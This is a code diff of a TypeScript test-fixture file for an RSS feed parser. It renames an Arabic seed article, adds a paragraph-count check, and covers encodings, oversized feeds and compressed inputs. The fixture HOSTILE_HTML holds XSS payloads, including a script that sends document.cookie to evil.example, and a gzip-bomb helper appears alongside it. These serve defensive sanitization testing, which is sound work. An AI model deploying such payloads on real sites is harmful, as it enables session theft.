@@ -6,7 +6,7 @@
 import { readFileSync } from 'node:fs'
 import type { IncomingMessage } from 'node:http'
 import { brotliCompressSync, gzipSync } from 'node:zlib'
-import { seedArticle } from './feeds'
+import { workshopArticle } from './feeds'
 import type { Route } from './local-server'
 
 // ── Code pages ──────────────────────────────────────────────────────────────────────────────
@@ -52,10 +52,12 @@ export const utf8WithBom = (text: string): Buffer => Buffer.concat([Buffer.from(
 
 // ── Stories and feeds ───────────────────────────────────────────────────────────────────────
 
-/** The seed article's paragraphs (without the site's السابق / التالي links). 0–1 have “curly quotes”, 2–5 fit ISO-8859-6. */
-export const SEED = (() => {
-  const { title, body } = seedArticle()
-  return { title, paragraphs: body.split(/\n+/).slice(0, 6) }
+/** The workshop article's six paragraphs (without the site's tail). 0–1 have “curly quotes”, 2–5 fit ISO-8859-6. */
+export const WORKSHOP = (() => {
+  const { title, paragraphs } = workshopArticle()
+  // The stories below use P[0]..P[5]: fail here, by name, rather than on an undefined paragraph.
+  if (paragraphs.length < 6) throw new Error(`the workshop article has ${paragraphs.length} paragraphs, the feed matrix needs 6`)
+  return { title, paragraphs: paragraphs.slice(0, 6) }
 })()
 
 export interface Story {
@@ -129,10 +131,10 @@ export const FILE_STORIES = {
 
 /** A description a hostile or careless CMS sends: script, an onerror image, a javascript: link. */
 export const HOSTILE_HTML = [
-  `<p>${SEED.paragraphs[3]}</p>`,
+  `<p>${WORKSHOP.paragraphs[3]}</p>`,
   '<script>document.location="https://evil.example/?c="+document.cookie</script>',
   '<img src="x.jpg" onerror="alert(\'xss\')">',
-  `<p>${SEED.paragraphs[4]} <a href="javascript:alert('link')">التفاصيل</a></p>`,
+  `<p>${WORKSHOP.paragraphs[4]} <a href="javascript:alert('link')">التفاصيل</a></p>`,
 ].join('')
 
 /** Invalid XML 1.0 characters inside a title, and the title once they are stripped. */
@@ -142,7 +144,7 @@ export const CONTROL_TITLE = { raw: 'اعتقال\u0001 خلية\u000B نائم�
 export function oversizedFeed(minBytes: number): string {
   const stories: Story[] = []
   while (Buffer.byteLength(rss('موقع ثرثار', stories)) <= minBytes) {
-    stories.push(story(`huge-${stories.length}`, `خبر حشو رقم ${stories.length}`, [SEED.paragraphs[1]], { guid: `huge-${stories.length}` }))
+    stories.push(story(`huge-${stories.length}`, `خبر حشو رقم ${stories.length}`, [WORKSHOP.paragraphs[1]], { guid: `huge-${stories.length}` }))
   }
   return rss('موقع ثرثار', stories)
 }
@@ -152,10 +154,10 @@ export const gzipBomb = (): Buffer => gzipSync(Buffer.alloc(50 * 1024 * 1024))
 export const gzip = (text: string): Buffer => gzipSync(Buffer.from(text, 'utf8'))
 export const brotli = (text: string): Buffer => brotliCompressSync(Buffer.from(text, 'utf8'))
 
-const P = SEED.paragraphs
+const P = WORKSHOP.paragraphs
 /** One story per feed of the matrix (distinct titles, so no two are the same story by accident). */
 export const STORIES = {
-  cp1256Xml: story('cp1256-xml', SEED.title, [P[0], P[1]]),
+  cp1256Xml: story('cp1256-xml', WORKSHOP.title, [P[0], P[1]]),
   cp1256Bare: story('cp1256-bare', 'مديرية المخابرات تحبط مخططا لاستهداف مراكز عسكرية في الجنوب', [P[2]]),
   isoHeader: story('iso-header', 'القضاء العسكري يصدر أحكاما بحق موقوفين بتهم ارهابية', [P[3]]),
   isoXml: story('iso-xml', 'اجتماع أمني موسع في السراي لبحث ضبط الحدود الشرقية', [P[5]]),
